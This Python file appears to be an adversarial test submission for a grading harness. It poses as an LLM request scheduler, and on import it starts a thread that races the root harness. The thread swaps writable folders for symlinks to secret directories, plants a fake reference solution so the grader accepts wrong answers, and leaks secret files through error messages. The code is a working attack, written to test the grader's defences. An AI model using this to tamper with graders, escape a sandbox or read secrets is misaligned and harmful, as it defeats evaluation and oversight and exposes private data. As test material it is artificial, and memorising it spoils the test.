"""Races the trusted side: swaps every folder it can find for symlinks to the job's secrets, plants a fake reference.
expect: failed, crashed

The attack the grader once lost: the root harness made each worker's folder inside a folder the
worker could write and then changed its owner by path, so a worker that swapped the new folder for a
symlink in between got root to hand it any path (the job's secret folder, another job's folder).
From its first import this submission runs a thread that, for as long as the grading lasts, renames
every folder it may write near its own (its working folder's parent, /tmp, /job, the job's scratch)
and puts symlinks to the secret folders in their place, and tries to write a "reference" that agrees
with its own wrong answers wherever one could be read from. It also reports whatever secret file it
manages to read in its answers. The scheduler itself does nothing useful: it must score 0. (Its racing thread also moves the folders of
its own later workers, which may then end before they answer: `crashed`.)
"""

import os
import threading
import time
from collections import deque

TARGETS = ["/job/secret", "/job/secret/reference", "/job", "/job/secret/private", "/", "/tmp"]
FAKE_REFERENCE = (
    "class Req:\n    def __init__(s, rid, prompt_len, max_new, prefilled=0, generated=0):\n"
    "        s.rid, s.prompt_len, s.max_new, s.prefilled, s.generated = rid, prompt_len, max_new, prefilled, generated\n"
    "class Scheduler:\n    def __init__(s, *a):\n        from collections import deque\n"
    "        s.waiting, s.running, s.reserved = deque(), [], 0\n"
    "    def add(s, r): s.waiting.append(r)\n    def schedule(s): return []\n    def complete(s, plan): return []\n"
)
stolen = []


def _places():
    here = os.getcwd()
    places = {os.path.dirname(here), here, "/tmp", "/job", "/job/scratch", os.path.expanduser("~")}
    for top in ("/tmp", "/job"):
        try:
            places.update(os.path.join(top, name) for name in os.listdir(top))
        except OSError:
            pass
    return [p for p in places if os.path.isdir(p) and not os.path.islink(p)]


def _swap(folder):
    try:
        names = os.listdir(folder)
    except OSError:
        return
    for name in names:
        path = os.path.join(folder, name)
        if os.path.isdir(path) and not os.path.islink(path) and path != os.getcwd():
            for target in TARGETS:
                try:
                    os.rename(path, path + ".gone")
                    os.symlink(target, path)
                    break
                except OSError:
                    continue


def _plant():
    for folder in ("/job/secret/reference", "/job/secret", os.path.join(os.getcwd(), "..", "secret", "reference")):
        try:
            with open(os.path.join(folder, "scheduler.py"), "w") as handle:
                handle.write(FAKE_REFERENCE)
        except OSError:
            pass


def _steal():
    for folder in ("/job/secret/reference", "/job/secret/suites/hidden", "/job/secret"):
        try:
            for name in os.listdir(folder):
                with open(os.path.join(folder, name), errors="replace") as handle:
                    stolen.append(handle.read(300))
        except OSError:
            pass


def _race():
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline:
        for place in _places():
            _swap(place)
        _plant()
        _steal()
        time.sleep(0.001)


threading.Thread(target=_race, daemon=True).start()


class Req:
    def __init__(self, rid, prompt_len, max_new, prefilled=0, generated=0):
        self.rid, self.prompt_len, self.max_new = rid, prompt_len, max_new
        self.prefilled, self.generated = prefilled, generated


class Scheduler:
    def __init__(self, token_budget, max_seqs, kv_tokens):
        self.token_budget, self.max_seqs, self.kv_tokens = token_budget, max_seqs, kv_tokens
        self.waiting, self.running, self.reserved = deque(), [], 0

    def add(self, req):
        if req.prompt_len + req.max_new > self.kv_tokens:
            raise ValueError(" | ".join(stolen) or "too big")
        self.waiting.append(req)

    def schedule(self):
        if stolen:
            raise RuntimeError(" | ".join(stolen))
        return []

    def complete(self, plan):
        return []
